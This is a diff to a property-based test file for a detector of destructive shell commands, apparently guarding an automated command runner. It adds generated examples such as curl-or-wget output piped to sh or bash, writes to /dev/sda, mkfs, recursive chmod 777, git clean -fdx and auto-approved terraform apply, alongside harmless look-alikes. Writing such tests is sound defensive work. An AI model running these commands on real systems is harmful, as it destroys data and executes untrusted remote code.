@@ -38,6 +38,38 @@ const DESTRUCTIVE: readonly fc.Arbitrary<readonly [command: string, part: string
     .tuple(fc.constantFrom("sudo", "doas"), word)
     .map(([as, service]) => [`${as} systemctl restart ${service}`, as]),
   path.map((of) => [`terraform -chdir=${of} destroy`, "destroy"]),
+  word.map((plan) => [`terraform apply -auto-approve ${plan}`, "-auto-approve"]),
+  fc
+    .tuple(
+      fc.constantFrom("docker compose", "docker-compose", "podman compose"),
+      fc.constantFrom("-v", "--volumes", "--remove-orphans -v", "--rmi all"),
+    )
+    .map(([program, flags]) => [`${program} down ${flags}`, `down ${flags}`]),
+  word.map((name) => [`sudo systemctl restart ${name}`, "sudo"]),
+  fc
+    .constantFrom("-fdx", "-xdf", "-f", "-d -f")
+    .map((flags) => [`git clean ${flags}`, `clean ${flags}`]),
+  word.map((name) => [`dd if=${name}.img of=copy.img`, "dd"]),
+  word.map((disk) => [`mkfs.ext4 /mnt/${disk}`, "mkfs.ext4"]),
+  fc
+    .tuple(fc.constantFrom("-R 777", "777 -R", "-R a+rwx", "--recursive 0777"), path)
+    .map(([flags, of]) => [`chmod ${flags} ${of}`, `chmod ${flags}`]),
+  path.map((of) => [`cat0 ${of} > /dev/sda`, "> /dev/sda"]),
+  fc
+    .tuple(
+      fc.constantFrom("curl -fsSL", "wget -qO-", "curl -sS"),
+      word,
+      fc.constantFrom("sh", "bash", "bash -s -- --yes", "sudo bash", "python3 -", "/bin/zsh"),
+    )
+    .map(([fetch, host, run]) => {
+      const program = run.replace(/ -.*$/, "");
+      const line = `${fetch} https://${host}.test/x`;
+      return [`${line} | ${run}`, `${line} | ${program}`];
+    }),
+  word.map((host) => [`bash <(curl -s https://${host}.test)`, "bash <(curl"]),
+  word.map((host) => [`sh -c "$(curl -s https://${host}.test)"`, 'sh -c "$(curl']),
+  word.map((name) => [`npx prisma migrate reset ${name}`, "migrate reset"]),
+  word.map((name) => [`npm unpublish ${name}`, "unpublish"]),
 ];
 
 const HARMLESS: readonly fc.Arbitrary<string>[] = [
@@ -54,6 +86,15 @@ const HARMLESS: readonly fc.Arbitrary<string>[] = [
   word.map((what) => `git commit -m "never rm -rf ${what} or push --force"`),
   path.map((of) => `form -rf ${of}`),
   path.map((of) => `tar -rf ${of}.tar`),
+  word.map((name) => `docker compose down ${name}`),
+  word.map((name) => `docker run -v ${name}:/data app`),
+  path.map((of) => `chmod -R 755 ${of}`),
+  path.map((of) => `chmod 777 ${of}`),
+  word.map((what) => `echo "curl ${what} > sh, with sudo"`),
+  word.map((name) => `git checkout ${name}`),
+  word.map((name) => `terraform plan -out ${name}`),
+  path.map((of) => `dd if=${of} bs=1M`),
+  path.map((of) => `npm test > /dev/null 2> ${of}`),
 ];
 
 const between = fc.constantFrom(" && ", "; ", " || ", " | ", "\n");
@@ -82,6 +123,18 @@ describe("destructive parts", () => {
       }),
       { numRuns: 500 },
     );
+  });
+
+  test("what is fetched and not run has none", () => {
+    for (const command of [
+      "curl -o install.sh https://a.test/install.sh",
+      "curl -s https://a.test/x.json | jq .sh",
+      'wget -qO- "https://a.test/?a=1&b=2" | tee out.sh',
+      "curl https://a.test; ls | sh-completion",
+    ])
+      expect([command, marked(command)]).toEqual([command, []]);
+    const quoted = 'curl -s "https://a.test/?a=1&b=2" | sh';
+    expect(marked(quoted)).toEqual([quoted]);
   });
 
   test("whatever a command is, they lie in it, in order and apart", () => {
